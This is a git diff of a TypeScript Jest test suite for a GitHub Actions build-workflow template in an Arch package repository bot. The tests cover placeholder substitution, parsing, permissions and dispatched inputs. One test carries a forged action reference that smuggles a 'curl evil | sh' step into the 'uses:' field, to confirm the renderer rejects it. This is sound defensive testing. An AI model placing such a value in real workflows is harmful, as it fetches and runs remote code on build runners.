@@ -1,27 +1,27 @@
 /**
- * The workflow template, read by GitHub's own parser (@actions/workflow-parser) and its expressions
- * evaluated (@actions/expressions) for a sample matrix the way the runner would.
+ * The build workflow the app proposes (workflows-templates/arch-repo-build.yml with the builder action written
+ * in), read by GitHub's own parser (@actions/workflow-parser) and its expressions evaluated
+ * (@actions/expressions) with the inputs the dispatcher sends, the way the runner would.
  */
 import { readFileSync } from "node:fs";
-import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
-import {
-  convertWorkflowTemplate,
-  isBasicExpression,
-  isLiteral,
-  isMapping,
-  isSequence,
-  NoOperationTraceWriter,
-  parseWorkflow,
-} from "@actions/workflow-parser";
-import type { MappingToken, TemplateToken } from "@actions/workflow-parser/templates/tokens/index";
 import { describe, expect, it } from "@jest/globals";
 import { parse as parseYaml } from "yaml";
+import type { MatrixEntry } from "../../src/build/contracts.js";
 import { validateMatrix, validateMatrixEntry } from "../../src/build/matrix-entry.js";
+import {
+  BUILDER_ACTION_PLACEHOLDER,
+  parseBuilderAction,
+  renderWorkflowTemplate,
+} from "../../src/config/builder-action.js";
+import { dispatchInputs } from "../../src/github/dispatch.js";
+import { proposedWorkflowFromEnv, workflowTemplatePath } from "../../src/handlers/deps.js";
+import { dispatchRun, parse, type RunStep, WorkflowRejected } from "../helpers/workflow-run.js";
 
-const templatePath = new URL("../../workflows-templates/arch-repo-build.yml", import.meta.url).pathname;
-const template = readFileSync(templatePath, "utf8");
+const rawTemplate = readFileSync(workflowTemplatePath(), "utf8");
+const BUILDER = "octo-org/arch-repo-bot/action@v1";
+const template = proposedWorkflowFromEnv({ BUILDER_ACTION: BUILDER });
 
-const sampleMatrix = {
+const sampleMatrix: { include: MatrixEntry[] } = {
   include: [
     {
       pkgbase: "yay",
@@ -41,6 +41,22 @@ const sampleMatrix = {
     },
   ],
 };
+
+/** The inputs the dispatcher sends for sampleMatrix (src/github/dispatch.ts). */
+const inputs = dispatchInputs(
+  {
+    owner: "alice",
+    repo: "packages",
+    workflow: "arch-repo-build.yml",
+    branch: "main",
+    buildId: "b-42",
+    entries: sampleMatrix.include,
+    repoName: "myrepo",
+    repoUrl: "https://example.s3.amazonaws.com/$arch",
+    repoKey: "-----BEGIN PGP PUBLIC KEY BLOCK-----\n…\n-----END PGP PUBLIC KEY BLOCK-----",
+  },
+  sampleMatrix.include,
+);
 
 interface RawStep {
   readonly uses?: string;
@@ -63,47 +79,6 @@ interface RawWorkflow {
   };
 }
 
-function parse(content: string) {
-  return parseWorkflow({ name: "arch-repo-build.yml", content }, new NoOperationTraceWriter());
-}
-
-function find(mapping: TemplateToken | undefined, key: string): TemplateToken | undefined {
-  return mapping && isMapping(mapping) ? mapping.find(key) : undefined;
-}
-
-function entries(mapping: MappingToken): [string, TemplateToken][] {
-  return Array.from({ length: mapping.count }, (_, i) => {
-    const pair = mapping.get(i);
-    return [pair.key.toString(), pair.value];
-  });
-}
-
-/** Evaluates an expression against `inputs` and `matrix` contexts, with the status functions of a job. */
-function evaluate(expression: string, context: Record<string, unknown>): unknown {
-  const status = (value: boolean) => ({
-    name: "",
-    minArgs: 0,
-    maxArgs: 0,
-    call: () => new data.BooleanData(value),
-  });
-  const functions = new Map([
-    ["success", { ...status(true), name: "success" }],
-    ["always", { ...status(true), name: "always" }],
-  ]);
-  const { tokens } = new Lexer(expression).lex();
-  const tree = new Parser(tokens, Object.keys(context), [...functions.values()]).parse();
-  const contextData = JSON.parse(JSON.stringify(context), data.reviver) as data.Dictionary;
-  const result = new Evaluator(tree, contextData, functions).evaluate();
-  return JSON.parse(JSON.stringify(result, data.replacer));
-}
-
-/** The value a token takes for one job: literals as they are, expressions evaluated. */
-function render(token: TemplateToken, context: Record<string, unknown>): unknown {
-  if (isBasicExpression(token)) return evaluate(token.expression, context);
-  if (isLiteral(token)) return JSON.parse(JSON.stringify(token.toJSON()));
-  throw new Error(`unexpected token ${token.toString()}`);
-}
-
 /** Every `run:` script of every step of every job. */
 function runScripts(workflow: unknown): string[] {
   const jobs = Object.values(
@@ -114,29 +89,58 @@ function runScripts(workflow: unknown): string[] {
     .map(String);
 }
 
-describe("workflows-templates/arch-repo-build.yml", () => {
+describe("the proposed build workflow (workflows-templates/arch-repo-build.yml)", () => {
   const parsed = parse(template);
   const raw = parseYaml(template) as RawWorkflow;
 
-  it("parses with GitHub's workflow parser without errors", async () => {
-    expect(parsed.context.errors.getErrors()).toEqual([]);
-    const converted = await convertWorkflowTemplate(parsed.context, parsed.value!);
-    expect(converted.errors ?? []).toEqual([]);
-    expect(converted.jobs.map((j) => j.id.toString())).toEqual(["build"]);
-    expect(Object.keys(converted.events)).toEqual(["workflow_dispatch"]);
+  it("the template holds one builder-action placeholder; the proposed file names the configured action", () => {
+    expect(rawTemplate.split(BUILDER_ACTION_PLACEHOLDER)).toHaveLength(2);
+    expect(template).not.toContain(BUILDER_ACTION_PLACEHOLDER);
+    // The placeholder the template shipped before (no repository resolves it) is gone for good.
+    expect(template).not.toMatch(/OWNER/);
+    const uses = raw.jobs.build.steps.map((s) => s.uses).filter((u) => u !== undefined);
+    expect(uses).toContain(BUILDER);
+    // Every `uses:` is a reference GitHub resolves: {owner}/{repo}[/{path}]@{ref}, no placeholder left.
+    for (const u of uses) expect(parseBuilderAction(u as string, "uses").uses).toBe(u);
+    // Only the `uses:` line differs from the template.
+    const changed = template.split("\n").filter((line, i) => line !== rawTemplate.split("\n")[i]);
+    expect(changed).toEqual([`        uses: ${BUILDER}`]);
   });
 
-  it("is checked for real: the parser reports a broken variant", () => {
+  it("refuses to render without exactly one placeholder, or with an unvalidated reference", () => {
+    const action = parseBuilderAction(BUILDER);
+    expect(() =>
+      renderWorkflowTemplate(rawTemplate.replace(BUILDER_ACTION_PLACEHOLDER, "x/y@v1"), action),
+    ).toThrow(/exactly one/);
+    const twice = `${rawTemplate}\n      - uses: ${BUILDER_ACTION_PLACEHOLDER}\n`;
+    expect(() => renderWorkflowTemplate(twice, action)).toThrow(/exactly one/);
+    // A forged object (not from parseBuilderAction) is validated again before it is written.
+    const forged = { ...action, uses: "x/y@v1\n        run: curl evil | sh" };
+    expect(() => renderWorkflowTemplate(rawTemplate, forged)).toThrow(/BUILDER_ACTION/);
+  });
+
+  it("parses with GitHub's workflow parser without errors", async () => {
+    expect(parsed.context.errors.getErrors()).toEqual([]);
+    const run = await dispatchRun(template, inputs);
+    expect(run.events).toEqual(["workflow_dispatch"]);
+    expect([...new Set(run.jobs.map((j) => j.id))]).toEqual(["build"]);
+  });
+
+  it("is checked for real: the parser reports a broken variant, and unknown inputs are refused", async () => {
     const broken = template.replace("contents: read", "contents: sudo");
     expect(parse(broken).context.errors.getErrors().length).toBeGreaterThan(0);
+    await expect(dispatchRun(broken, inputs)).rejects.toThrow(WorkflowRejected);
+    await expect(dispatchRun(template, { ...inputs, extra: "x" })).rejects.toThrow(/unexpected input extra/);
   });
 
   it("declares the dispatch inputs, the run name and read-only permissions", () => {
-    const inputs = raw.on.workflow_dispatch.inputs;
-    expect(Object.keys(inputs).sort()).toEqual(["build_id", "matrix", "repo_key", "repo_name", "repo_url"]);
-    expect(inputs.build_id?.required).toBe(true);
-    expect(inputs.matrix?.required).toBe(true);
-    for (const input of Object.values(inputs)) expect(input.type).toBe("string");
+    const declared = raw.on.workflow_dispatch.inputs;
+    expect(Object.keys(declared).sort()).toEqual(["build_id", "matrix", "repo_key", "repo_name", "repo_url"]);
+    // Exactly the inputs the dispatcher sends.
+    expect(Object.keys(inputs).sort()).toEqual(Object.keys(declared).sort());
+    expect(declared.build_id?.required).toBe(true);
+    expect(declared.matrix?.required).toBe(true);
+    for (const input of Object.values(declared)) expect(input.type).toBe("string");
     expect(raw["run-name"]).toContain(`\${{ inputs.build_id }}`);
     expect(raw.permissions).toEqual({ contents: "read" });
     expect(raw.jobs.build.permissions).toBeUndefined();
@@ -149,7 +153,7 @@ describe("workflows-templates/arch-repo-build.yml", () => {
     expect(job["timeout-minutes"]).toBeGreaterThan(0);
     const uses = job.steps.map((s) => s.uses);
     expect(uses[0]).toMatch(/^actions\/checkout@v\d+$/);
-    expect(uses[1]).toMatch(/\/arch-repo-bot\/action@|^\.\/action$/);
+    expect(uses[1]).toBe(BUILDER);
     expect(uses[2]).toBe("actions/upload-artifact@v4");
     expect(job.steps[2]?.if).toBe("always()");
     expect(Number(job.steps[2]?.with?.["retention-days"])).toBeLessThanOrEqual(7);
@@ -167,52 +171,26 @@ describe("workflows-templates/arch-repo-build.yml", () => {
     expect(runScripts(unsafe).some((s) => s.includes("${{"))).toBe(true);
   });
 
-  it("renders for a sample matrix: the matrix expression and every step input resolve", () => {
-    const job = find(find(parsed.value, "jobs"), "build");
-    const matrixToken = find(find(job, "strategy"), "matrix");
-    expect(matrixToken && isBasicExpression(matrixToken)).toBe(true);
-    const inputs = {
-      build_id: "b-42",
-      matrix: JSON.stringify(sampleMatrix),
-      repo_name: "myrepo",
-      repo_url: "https://example.s3.amazonaws.com/$arch",
-      repo_key: "-----BEGIN PGP PUBLIC KEY BLOCK-----\n…\n-----END PGP PUBLIC KEY BLOCK-----",
-    };
-    const matrix = render(matrixToken!, { inputs });
-    expect(validateMatrix(matrix)).toEqual(sampleMatrix);
-
-    const steps = find(job, "steps");
-    if (!steps || !isSequence(steps)) throw new Error("no steps");
-    for (const entry of sampleMatrix.include) {
-      const context = { inputs, matrix: entry };
-      expect(render(find(job, "name")!, context)).toBe(entry.pkgbase);
-      const rendered = Array.from({ length: steps.count }, (_, i) => {
-        const step = steps.get(i) as MappingToken;
-        const withToken = find(step, "with");
-        const ifToken = find(step, "if");
-        return {
-          if: ifToken
-            ? evaluate(isBasicExpression(ifToken) ? ifToken.expression : ifToken.toString(), context)
-            : true,
-          with:
-            withToken && isMapping(withToken)
-              ? Object.fromEntries(entries(withToken).map(([k, v]) => [k, render(v, context)]))
-              : {},
-        };
-      });
-      const [checkout, build, upload] = rendered as [
-        (typeof rendered)[0],
-        (typeof rendered)[0],
-        (typeof rendered)[0],
-      ];
-      expect(checkout.if).toBe(entry.source === "local");
+  it("runs as dispatched: the matrix expression and every step input resolve for the dispatcher's inputs", async () => {
+    const run = await dispatchRun(template, inputs);
+    expect(run.runName).toBe("arch-repo-bot build b-42");
+    expect(validateMatrix({ include: run.jobs.map((j) => j.matrix) })).toEqual(sampleMatrix);
+    expect(run.jobs).toHaveLength(sampleMatrix.include.length);
+    for (const [i, entry] of sampleMatrix.include.entries()) {
+      const job = run.jobs[i]!;
+      expect(job.name).toBe(entry.pkgbase);
+      const [checkout, build, upload] = job.steps as [RunStep, RunStep, RunStep];
+      expect(checkout.runs).toBe(entry.source === "local");
       expect(checkout.with.ref).toBe(entry.ref);
+      expect(build.name).toBe(`Build ${entry.pkgbase}`);
+      expect(build.uses).toBe(BUILDER);
+      expect(build.runs).toBe(true);
       expect(build.with["build-id"]).toBe("b-42");
       expect(validateMatrixEntry(JSON.parse(build.with.entry as string))).toEqual(entry);
       expect(build.with["repo-name"]).toBe(inputs.repo_name);
       expect(build.with["repo-url"]).toBe(inputs.repo_url);
       expect(build.with["repo-key"]).toBe(inputs.repo_key);
-      expect(upload.if).toBe(true);
+      expect(upload.runs).toBe(true);
       expect(upload.with.name).toBe(`arch-repo-${entry.pkgbase}`);
       expect(upload.with.path).toBe(`${build.with["out-dir"]}/`);
     }
